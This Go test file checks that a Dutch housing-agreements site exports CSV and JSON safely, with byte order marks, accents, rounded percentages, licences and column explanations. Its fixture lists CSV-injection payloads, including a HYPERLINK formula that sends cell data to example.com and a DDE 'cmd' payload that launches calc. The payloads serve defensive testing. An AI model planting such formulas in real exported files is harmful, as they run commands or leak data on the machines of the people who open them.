package site_test

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"testing/fstest"

	"golang.org/x/net/html"
)

// formulas are texts a spreadsheet would run as a formula if a cell began
// with them (CSV injection).
var formulas = []string{
	`=HYPERLINK("https://example.com/?"&A1;"Klik hier")`,
	`+SUM(1;2)`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1;2)`,
	"\t=1+1",
	"\r=1+1",
}

// csvSite puts the formulas in every text that reaches a CSV: item texts,
// numbers, units, notes and sources of progress, a figure's title and a
// chapter title; and a value that gives a percentage with many decimals.
func csvSite(cfg string) fstest.MapFS {
	q := func(s string) string { j, _ := json.Marshal(s); return string(j) }
	f := formulas
	return fstest.MapFS{
		"prestatie.yaml": {Data: []byte(cfg)},
		"content/x-2024/_index.md": {Data: []byte(`---
title: Afspraken
municipality: Dorp
period: {from: 2024, to: 2025}
date: 2024-01-01
status: signed
parties:
  - {id: g, name: Gemeente, kind: municipality}
  - {id: c, name: Corporatie, kind: corporation}
---
`)},
		"content/x-2024/t/_index.md": {Data: []byte(`---
title: ` + q(f[3]) + `
order: 1
number: ` + q(f[2]) + `
figures:
  - {kind: stock, as_of: 2023-01, value: -5, unit: ` + q(f[0]) + `, title: ` + q(f[1]) + `, source: bron}
  - {kind: stock, as_of: 2024-01, value: 10, unit: ` + q(f[0]) + `, title: ` + q(f[1]) + `, source: bron}
items:
  bouw: {party: c, number: ` + q(f[1]) + `, target: {value: 3, unit: ` + q(f[0]) + `, note: ` + q(f[3]) + `}}
  plan: {party: g}
progress:
  - {commitment: bouw, date: 2024-06-30, status: on-track, value: 1, note: ` + q(f[4]) + `, source: ` + q(f[5]) + `}
---
- ` + strings.TrimSpace(f[0]) + ` {#bouw}
- Potentiële locaties bespreken {#plan}
`)},
	}
}

func readCSV(t *testing.T, name, data string) [][]string {
	t.Helper()
	body, ok := strings.CutPrefix(data, "\ufeff")
	if !ok {
		t.Errorf("%s does not start with a UTF-8 byte order mark", name)
	}
	r := csv.NewReader(strings.NewReader(body))
	r.Comma = ';'
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return rows
}

// TestCSVOpensSafely: every CSV of the site starts with a byte order mark,
// keeps its accents, and no cell starts with what a spreadsheet runs as a
// formula; percentages are rounded as on the page.
func TestCSVOpensSafely(t *testing.T) {
	t.Parallel()
	files := render(t, csvSite(""), "/")
	n, sawFormula, sawNegative := 0, false, false
	for name, data := range files {
		if !strings.HasSuffix(name, ".csv") {
			continue
		}
		n++
		for _, row := range readCSV(t, name, data) {
			for _, cell := range row {
				if strings.Contains(cell, "HYPERLINK") {
					sawFormula = true
				}
				if cell == "-5" {
					sawNegative = true // a number keeps its sign
					continue
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would run as a formula", name, cell)
				}
			}
		}
	}
	if n < 3 || !sawFormula || !sawNegative {
		t.Fatalf("%d CSV files, formula seen %v, negative number seen %v: the fixture did not reach the CSVs", n, sawFormula, sawNegative)
	}
	punten := files["x-2024/voortgang/data/punten.csv"]
	if !strings.Contains(punten, "Potentiële") {
		t.Errorf("punten.csv lost the accent of Potentiële")
	}
	if !strings.Contains(punten, `'=HYPERLINK(`) {
		t.Errorf("punten.csv does not neutralise =HYPERLINK with an apostrophe")
	}
	rows := readCSV(t, "punten.csv", punten)
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	if got := rows[1][col["percentage_bereikt"]]; got != "33,3" {
		t.Errorf("percentage_bereikt = %q, want 33,3 (one decimal, as on the page)", got)
	}
	var doc struct {
		Punten []struct {
			Pct *float64 `json:"percentage_bereikt"`
		} `json:"punten"`
	}
	if err := json.Unmarshal([]byte(files["x-2024/voortgang/data/punten.json"]), &doc); err != nil {
		t.Fatal(err)
	}
	if p := doc.Punten[0].Pct; p == nil || *p != 33.3 {
		t.Errorf("punten.json percentage_bereikt = %v, want 33.3", p)
	}
}

// TestDataLicence: CC0 unless the site says otherwise, on the data page and
// in both JSON files.
func TestDataLicence(t *testing.T) {
	t.Parallel()
	for cfg, want := range map[string][]string{
		"":                                  {"CC0-1.0", "https://creativecommons.org/publicdomain/zero/1.0/deed.nl"},
		"data_licence: CC-BY-4.0\n":         {"CC-BY-4.0", "https://creativecommons.org/licenses/by/4.0/deed.nl"},
		"data_licence: Eigen voorwaarden\n": {"Eigen voorwaarden", ""},
	} {
		files := render(t, csvSite(cfg), "/")
		for _, name := range []string{"punten.json", "voortgang.json"} {
			var doc struct {
				Licentie struct{ ID, Naam, URL string }
			}
			if err := json.Unmarshal([]byte(files["x-2024/voortgang/data/"+name]), &doc); err != nil {
				t.Fatal(err)
			}
			if doc.Licentie.ID != want[0] || doc.Licentie.URL != want[1] || doc.Licentie.Naam == "" {
				t.Errorf("%q: %s licentie = %+v, want %v", cfg, name, doc.Licentie, want)
			}
		}
		page := files["x-2024/voortgang/data/index.html"]
		if !strings.Contains(page, want[0]) || (want[1] != "" && !strings.Contains(page, `rel="license" href="`+want[1]+`"`)) {
			t.Errorf("%q: the data page does not name the licence %v", cfg, want)
		}
	}
}

// TestDataPageExplainsEveryColumn: each column of both CSV files is in
// the data page's tables, with a description.
func TestDataPageExplainsEveryColumn(t *testing.T) {
	t.Parallel()
	files := render(t, csvSite(""), "/")
	doc := parse(t, files["x-2024/voortgang/data/index.html"])
	explained := map[string]string{}
	for _, tbl := range byClass(doc, "columns") {
		for _, tr := range find(tbl, func(n *html.Node) bool { return n.Data == "tr" }) {
			cells := find(tr, func(n *html.Node) bool { return n.Data == "td" || n.Data == "th" })
			if len(cells) == 2 {
				explained[textOf(cells[0])] = strings.TrimSpace(textOf(cells[1]))
			}
		}
	}
	for _, name := range []string{"punten.csv", "voortgang.csv"} {
		rows := readCSV(t, name, files["x-2024/voortgang/data/"+name])
		for _, c := range rows[0] {
			if explained[c] == "" {
				t.Errorf("%s: column %s is not explained on the data page", name, c)
			}
		}
	}
}
